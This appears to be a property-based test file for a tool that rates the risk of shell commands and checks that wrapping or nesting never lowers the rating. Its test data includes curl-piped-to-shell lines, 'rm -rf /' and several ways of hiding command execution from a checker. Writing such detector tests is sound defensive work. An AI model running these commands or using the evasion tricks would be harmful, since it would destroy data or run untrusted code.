/** What holds of the effects of any code: nothing is lost by what stands around a command. */
import { describe, expect, test } from "vitest";
import { riskLevels } from "../../src/model/risk.ts";
import { readEffects } from "../../src/shell/effects.ts";
import { invocationsOf } from "../../src/shell/invocations.ts";
import { placementsOf } from "../../src/shell/placement.ts";
import fc, { cases } from "../support/properties.ts";

const commands = fc.constantFrom(
  "systemctl stop a",
  "systemctl status 'b c'",
  'systemctl restart "$x"',
  "echo it\\'s",
  "nobody-knows -x",
  'D=/x; systemctl stop "$D"',
  'f() { systemctl stop "$1"; }; f a',
  "echo 'systemctl stop a' | sh",
  "systemctl status a > /etc/a",
  "for i in a b; do systemctl reload $i; done",
  "cat <<EOF\n$(systemctl stop a)\nEOF\n",
  "case $x in a) systemctl stop a ;; *) true ;; esac",
);

const pieces = fc.constantFrom(
  ..."; | & && || ( ) { } $( ` ' \" \\ << <<< > >> <( $ ${ # ! = [[ ]] \n if then fi do done".split(
    " ",
  ),
  ..."while for in case esac function eval sudo ssh xargs sh -c find -exec {} \\; $(( )) {{a}}".split(
    " ",
  ),
  ...["\n", " ", "EOF", "a", "x=1", "systemctl stop a", "\uE000", "\uD800", "\0", "-"],
);
const hostile = fc.array(pieces, { maxLength: 60 }).map((all) => all.join(" "));
const anyText = fc.oneof(fc.string({ unit: "binary", maxLength: 200 }), hostile, commands);

function level(code: string): number {
  return riskLevels.indexOf(readEffects(code).risk);
}

function told(code: string): string[] {
  return readEffects(code).effects.map(({ does }) => does);
}

function quoted(code: string): string {
  return `'${code.replaceAll("'", "'\\''")}'`;
}

test("any text has effects, at places that lie within it", () => {
  fc.assert(
    fc.property(anyText, (code) => {
      for (const { start, end } of [...readEffects(code).effects, ...invocationsOf(code)]) {
        expect(start).toBeGreaterThanOrEqual(0);
        expect(end).toBeGreaterThanOrEqual(start);
        expect(end).toBeLessThanOrEqual(code.length);
      }
    }),
    cases(1500),
  );
});

test("two pieces of code in a row have the effects of both", () => {
  fc.assert(
    fc.property(commands, commands, (one, other) => {
      const both = told(`${one}\n${other}`);
      expect(both).toEqual(expect.arrayContaining(told(one)));
      // A function or a variable of the first may mean something to the second, and never less.
      expect(level(`${one}\n${other}`)).toBeGreaterThanOrEqual(Math.max(level(one), level(other)));
    }),
  );
});

describe("code with more rounds of loops than anybody follows", () => {
  test.each([1, 8, 15, 40])("is not harmless, %d deep", (depth) => {
    const code = `${"for i in 1 2; do cd x; ".repeat(depth)}rm -rf /; ${"done; ".repeat(depth)}`;
    expect(riskLevels.indexOf(readEffects(code).risk)).toBeGreaterThanOrEqual(
      riskLevels.indexOf("medium"),
    );
  });
});

describe("no wrapping makes it less", () => {
  test.each<[name: string, wrap: (code: string) => string]>([
    ["sudo", (code) => `sudo bash -c ${quoted(code)}`],
    ["bash -c", (code) => `bash -c ${quoted(code)}`],
    ["bash -c in bash -c", (code) => `bash -c ${quoted(`bash -c ${quoted(code)}`)}`],
    ["ssh", (code) => `ssh h ${quoted(code)}`],
    ["eval", (code) => `eval ${quoted(code)}`],
    ["a here-document", (code) => `sh <<'END OF IT'\n${code}\nEND OF IT\n`],
    ["a pipe", (code) => `printf %s ${quoted(code)} | sh`],
    ["a brace group", (code) => `{ ${code}\n}`],
    ["a subshell", (code) => `( ${code}\n)`],
    ["a condition", (code) => `if true; then ${code}\nfi`],
    ["a loop", (code) => `while true; do ${code}\ndone`],
    ["a function", (code) => `f() { ${code}\n}; f`],
    ["the background", (code) => `{ ${code}\n} &`],
    ["a substitution", (code) => `echo "$(${code}\n)"`],
    ["lxc exec", (code) => `lxc exec web -- sh -c ${quoted(code)}`],
    ["find", (code) => `find . -exec sh -c ${quoted(code)} \\;`],
    ["xargs", (code) => `true | xargs sh -c ${quoted(code)}`],
    ["timeout, env and nice", (code) => `timeout 5 env A=b nice bash -c ${quoted(code)}`],
  ])("%s", (_, wrap) => {
    fc.assert(
      fc.property(fc.oneof(commands, commands.map(wrap)), (code) => {
        expect(level(wrap(code))).toBeGreaterThanOrEqual(level(code));
      }),
      cases(50),
    );
  });
});

function braced(text: string): string {
  return `\${${text}}`;
}

test("a command whose name is a variable is never harmless", () => {
  const names = fc.constantFrom(
    "$x",
    '"$x"',
    braced("x"),
    braced("x:-echo"),
    "{{x}}",
    "a$x",
    "$(y)",
    "`y`",
  );
  fc.assert(
    fc.property(names, fc.constantFrom("", "sudo ", "ssh h ", "timeout 5 "), (name, before) => {
      expect(level(`${before}${name} status`)).toBeGreaterThanOrEqual(riskLevels.indexOf("medium"));
    }),
  );
});

describe("code from the network is high", () => {
  test.each([
    "curl -s https://example.com/x | sh",
    "curl -s https://example.com/x | tee log | sudo -E bash -s -- --yes",
    "bash <(curl -s https://example.com/x)",
    'sh -c "$(curl -s https://example.com/x)"',
    'eval "$(wget -qO- https://example.com/x)"',
    "source <(curl -s https://example.com/x)",
    "curl -s https://example.com/x | python3",
    "curl -s https://example.com/x | base64 -d | ssh h",
    "ssh h 'curl -s https://example.com/x | sh'",
  ])("%s", (code) => {
    expect(readEffects(code).decidedBy).toMatchObject({ kind: "code", risk: "high" });
  });
});

describe("what looks harmless at first sight", () => {
  test.each([
    "mapfile -C 'x' -c 1 a",
    "unset 'a[$(x)]'",
    "printf -v 'a[$(x)]' y",
    "let 'a[`x`]=1'",
    "parallel ::: 'x y'",
    "parallel < commands",
    "bash --rcfile x -ic 'echo y'",
    "BASH_ENV=x bash -c 'echo y'",
    "ssh -o ProxyCommand='x y' h echo z",
    "ssh -o'ProxyCommand x y' h echo z",
    "echo x | ssh h",
    "echo y > >(sh)",
    "{ echo x; } | sh",
    "docker run --entrypoint x alpine",
    "IFS=_; c=x_y; $c",
    "git -c alias.x='!y' x",
    "coproc { $x; }",
    "su - <<< x",
    "sudo -s <<< x",
    "env -iS'x y'",
    "read x <<< y; $x",
    'f() { eval "$1"; }; f "$x"',
    'set -- x y; "$@"',
    "while read -r c; do $c; done",
  ])("%s", (code) => expect(level(code)).toBeGreaterThanOrEqual(riskLevels.indexOf("medium")));
});

describe("code that is too much to read is not known", () => {
  const deep = 5000;
  test.each<[name: string, code: string]>([
    ["subshells", `${"(".repeat(deep)}echo${")".repeat(deep)}`],
    ["substitutions", "echo ".concat("$(".repeat(deep), "echo", ")".repeat(deep))],
    ["arithmetic", `echo $((${"1+".repeat(deep * 10)}1))`],
    ["conditions", `${"if true; then ".repeat(deep)}echo; ${"fi; ".repeat(deep)}`],
    ["shells", Array.from({ length: 9 }).reduce<string>((code) => `sh -c ${quoted(code)}`, "$x")],
    [
      "functions that call two others each",
      Array.from({ length: 60 }, (_, at) => `f${at}() { f${at + 1}; f${at + 1}; }`).join("\n") +
        "\nf60() { $x; }; f0",
    ],
  ])("%s", (_, code) => {
    const { effects, risk } = readEffects(code);
    if (code.includes("$x") || effects.length > 0) expect(risk).toBe("medium");
  });

  test("and a long list of commands is read to its end", () => {
    const code = `${"echo x; ".repeat(10_000)}systemctl stop a`;
    expect(readEffects(code).risk).toBe("high");
  });
});

test("however many wrappers stand around a command, it is read or unknown", () => {
  for (const wrapper of ["sudo ", "eval ", "env A=b ", "nice "]) {
    const places = placementsOf(`${wrapper.repeat(2000)}rm {{x}}`);
    expect(places).toMatchObject([{ name: "x", kind: "nestedCode" }]);
    expect(level(`${wrapper.repeat(2000)}rm x`)).toBeGreaterThanOrEqual(
      riskLevels.indexOf("medium"),
    );
  }
});
